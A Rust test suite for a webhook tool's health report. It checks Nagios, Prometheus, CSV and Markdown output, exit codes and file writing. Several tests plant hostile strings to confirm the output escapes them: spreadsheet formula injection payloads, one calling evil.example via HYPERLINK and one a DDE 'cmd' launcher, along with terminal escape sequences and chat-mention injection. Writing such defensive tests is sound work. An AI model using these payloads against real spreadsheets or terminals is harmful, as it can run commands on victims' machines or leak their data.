//! The same look for a plug-in, a scraper, a spreadsheet, a channel: each form as its reader needs it.

use std::os::unix::fs::PermissionsExt;

use super::health;
use crate::support::{Files, Receiver, Scene, hookyard};

const NOWHERE: &str = "postgres://127.0.0.1:1/none";

/// Two endpoints, one of which refuses everything.
fn scene() -> Scene {
    let (scene, receiver) = (Scene::new(), Receiver::start());
    scene.webhook(&receiver.url("/ok"));
    scene.webhook(&receiver.url("/status/404"));
    scene.enqueue(15);
    scene.hookyard(&["webhook", "retry"]).run().exits(1);
    scene
}

#[test]
fn a_plug_in_speaks_one_line_and_nagios_codes() {
    let scene = scene();
    let well = hookyard(&["report", "health", "--nagios"]).database(&Scene::new().database).run().succeeds();
    assert_eq!(
        well.to_string(),
        "HOOKYARD OK: 0 attempts in 24h|oldest=0s due=0 dead=0\n--- stderr\n(nothing)\n--- exit 0"
    );
    let failing = health(&scene, &["--nagios"]).exits(2);
    assert_eq!(
        failing.stdout,
        "HOOKYARD CRITICAL: success 50.0%, dead 15|success=50.0% oldest=0s due=0 dead=15\n"
    );
    health(&scene, &["--nagios", "--fail-on", "success=off"]).exits(1);
    scene.database.execute(
        "update hookyard.deliveries set state = 'pending', next_attempt_at = now() - interval '22 min', finished_at = null
         where state = 'dead'",
    );
    for arguments in [&["--nagios"][..], &["--nagios", "--warn", "due=0,oldest-due=1s,flagged=0"]] {
        let line = health(&scene, arguments).exits(2).stdout;
        assert!(line.trim_end().len() <= 80 && line.lines().count() == 1, "{line}");
        let (text, figures) = line.trim_end().split_once('|').expect("figures");
        assert!(text.starts_with("HOOKYARD CRITICAL: ") && figures.contains("oldest=13"), "{line}");
        assert!(!line.contains("127.0.0.1") && !line.contains("quux"), "numbers only: {line}");
    }

    let run = |variables: &[(&str, &str)], arguments: &[&str]| {
        let start = hookyard(&[&["report", "health", "--nagios"], arguments].concat());
        variables.iter().fold(start, |run, (name, value)| run.env(name, value)).run()
    };
    let down = run(&[("DATABASE_URL", NOWHERE)], &[]).exits(2);
    assert_eq!(down.stdout, "HOOKYARD CRITICAL: the database cannot be reached or does not answer\n");
    assert!(down.stderr.contains("127.0.0.1:1: refused"), "{down}");
    for (variables, arguments) in [
        (&[][..], &["--bogus"][..]),
        (&[], &["--warn", "success=1000"]),
        (&[], &["--json"]),
        (&[], &["--watch"]),
        (&[], &[]),
        (&[("HOOKYARD_CONFIG", "/nonexistent")], &[]),
    ] {
        let unknown = run(variables, arguments).exits(3);
        assert!(unknown.stdout.starts_with("HOOKYARD UNKNOWN: ") && unknown.stdout.len() <= 81, "{unknown}");
        assert!(!unknown.stderr.is_empty(), "{unknown}");
    }
    let told: serde_json::Value =
        serde_json::from_str(&run(&[], &["--json"]).exits(3).stderr).expect("an error as JSON");
    assert_eq!(told["exit_code"], 3, "the code that it says is the one it ends with");
    run(&[], &["--help"]).succeeds();
    // The word alone makes no plug-in of another verb.
    hookyard(&["webhook", "list", "--nagios"]).run().exits(2);
}

/// By the text format's own grammar.
fn is_exposition(text: &str) {
    let mut named: Option<String> = None;
    for line in text.lines() {
        if let Some(rest) = line.strip_prefix("# HELP ") {
            named = rest.split(' ').next().map(str::to_owned);
            continue;
        }
        let name = named.as_deref().expect("help comes first");
        if line.starts_with("# TYPE ") {
            assert_eq!(line, format!("# TYPE {name} gauge"));
            continue;
        }
        let (metric, value) = line.rsplit_once(' ').expect("a value");
        value.parse::<f64>().unwrap_or_else(|why| panic!("{line}: {why}"));
        let (bare, labels) = metric.split_once('{').unwrap_or((metric, "}"));
        assert_eq!(bare, name, "{line}");
        assert!(labels.ends_with('}') && labels.matches('"').count() % 2 == 0, "{line}");
    }
    assert!(text.ends_with('\n'));
}

#[test]
fn a_scraper_reads_a_file_that_is_written_at_one_stroke() {
    let scene = scene();
    let printed = health(&scene, &["--prometheus"]).exits(1).stdout;
    is_exposition(&printed);
    for line in [
        "hookyard_up 1",
        "hookyard_health_level{section=\"deliveries\"} 2",
        "hookyard_attempts_day{outcome=\"failure\"} 15",
        "hookyard_deliveries_dead 15",
        "hookyard_endpoint_successes{webhook_id=\"00000000-0000-4000-8000-000000000101\"} 15",
    ] {
        assert!(printed.lines().any(|one| one == line), "{line}\n{printed}");
    }
    let files = Files::new();
    let path = files.path("hookyard.prom");
    let name = path.display().to_string();
    let written = health(&scene, &["--prometheus", "--output", &name]).exits(1);
    assert_eq!(written.all(), "", "what went to a file is not printed");
    let text = std::fs::read_to_string(&path).expect("written");
    is_exposition(&text);
    let mode = std::fs::metadata(&path).expect("there").permissions().mode();
    assert_eq!(mode & 0o777, 0o644, "another user reads it");
    let all: Vec<_> = std::fs::read_dir(files.path("")).expect("readable").collect();
    assert_eq!(all.len(), 1, "nothing is left beside it: {all:?}");

    // A database that is away is told, too: yesterday's file would look well.
    hookyard(&["report", "health", "--prometheus", "--output", &name])
        .env("DATABASE_URL", NOWHERE)
        .run()
        .exits(3);
    let text = std::fs::read_to_string(&path).expect("written");
    is_exposition(&text);
    assert!(text.contains("\nhookyard_up 0\n"), "{text}");

    let nowhere = files.path("missing/hookyard.prom").display().to_string();
    let refused = health(&scene, &["--prometheus", "--output", &nowhere]).exits(1);
    assert!(refused.stderr.contains("cannot write"), "{refused}");
    health(&scene, &["--output", &name]).exits(2);
}

#[test]
fn a_spreadsheet_and_a_channel_get_text_that_stays_text() {
    let scene = scene();
    let bad = "https://evil.example/`|<!here>|`";
    scene.database.execute(&format!("update webhooks set url = '{bad}' where id::text like '%102'"));
    let csv = health(&scene, &["--csv"]).exits(1).stdout;
    assert!(csv.starts_with("webhook_id,url,level,"), "{csv}");
    assert_eq!(csv.matches("\r\n").count(), 3, "a head and two endpoints");
    let cells = csv.lines().next().expect("a head").split(',').count();
    assert!(csv.lines().all(|line| line.split(',').count() == cells), "{csv}");

    let text = health(&scene, &["--markdown"]).exits(1).stdout;
    assert!(text.starts_with("**hookyard is failing** at "), "{text}");
    assert!(
        text.contains("- failing: deliveries – `50.0 % of 24 hours' attempts succeeded (limit 80.0 %)`"),
        "{text}"
    );
    let row = text.lines().find(|line| line.contains("evil.example")).expect("the endpoint that is not well");
    assert!(!row.contains("<!here>"), "{row}");
    assert_eq!(row.replace("\\|", "").matches('|').count(), 7, "no cell of its own: {row}");
}

/// Byte for byte: what would be a formula begins with an apostrophe, and quotes hold what would end a cell or a row.
#[test]
fn a_spreadsheet_runs_nothing_that_others_wrote() {
    let scene = Scene::new();
    let hostile = [
        (
            "=HYPERLINK(\"http://evil.example/\"&A1,\"x\")",
            "\"'=HYPERLINK(\"\"http://evil.example/\"\"&A1,\"\"x\"\")\"",
        ),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(1)", "'@SUM(1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "\"'\r=1\""),
        ("\u{feff}=1", "'\u{feff}=1"),
        ("a\r\n=1,\"b\"", "\"a\r\n=1,\"\"b\"\"\""),
    ];
    for (why, _) in hostile {
        let id = scene.webhook("https://a.example/=1,%22+2%22,@x?=1+1,2=3");
        scene.database.execute(&format!(
            "insert into hookyard.endpoints (webhook_id, last_failure, last_failure_at)
             values ('{id}', $why${why}$why$, now())"
        ));
    }
    let csv = health(&scene, &["--csv"]).succeeds().stdout;
    let (head, mut rest) = csv.split_once("\r\n").expect("a head");
    let at = |name: &str| head.split(',').position(|one| one == name).expect("a column");
    assert_eq!(at("url"), 1);
    for (_, cell) in hostile {
        let (id, after) = rest.split_once(',').expect("an id");
        assert!(id.len() == 36, "{rest:?}");
        let after = after.strip_prefix("\"https://a.example/=1,%22+2%22,@x?=***\",").expect(after);
        let plain = at("last_failure") - 2;
        let begins = after.match_indices(',').nth(plain - 1).expect("columns").0 + 1;
        rest = after[begins..].strip_prefix(cell).unwrap_or_else(|| panic!("{cell:?} {after:?}"));
        let (numbers, next) = rest.split_once("\r\n").expect("the row ends");
        assert_eq!(
            numbers.matches(',').count(),
            head.split(',').count() - 1 - at("last_failure"),
            "{numbers:?}"
        );
        rest = next;
    }
    assert_eq!(rest, "");
}

/// Hostile text in every column that a form may show.
#[test]
fn what_others_wrote_is_shown_and_not_obeyed() {
    let scene = scene();
    let evil = "\u{1b}[2J\u{1b}]0;x\u{7}\u{202e}\u{9b}31m\r\u{8}";
    scene.database.execute(&format!(
        "update hookyard.endpoints set last_failure = '{evil}';
         update properties set name = '{evil}';
         insert into webhook_delivery_attempts (webhook_id, payload, response_data, response_status)
         select id, '{{}}', jsonb_build_object('code', '{evil}', 'status', '{evil}'), 500 from webhooks"
    ));
    scene.yardi_property("2020-01-01");
    scene.database.execute(&format!("update yardi_properties set yardi_property_id = '{evil}'"));
    for form in
        [&[][..], &["--json"], &["--csv"], &["--markdown"], &["--prometheus"], &["--nagios"], &["--show-pii"]]
    {
        let all = health(&scene, form).all();
        let harmful =
            |c: char| c.is_control() && !(c == '\n' || c == '\r' && form == ["--csv"]) || c == '\u{202e}';
        if form != ["--csv"] {
            assert!(!all.chars().any(harmful), "{form:?} {all:?}");
        }
    }
}
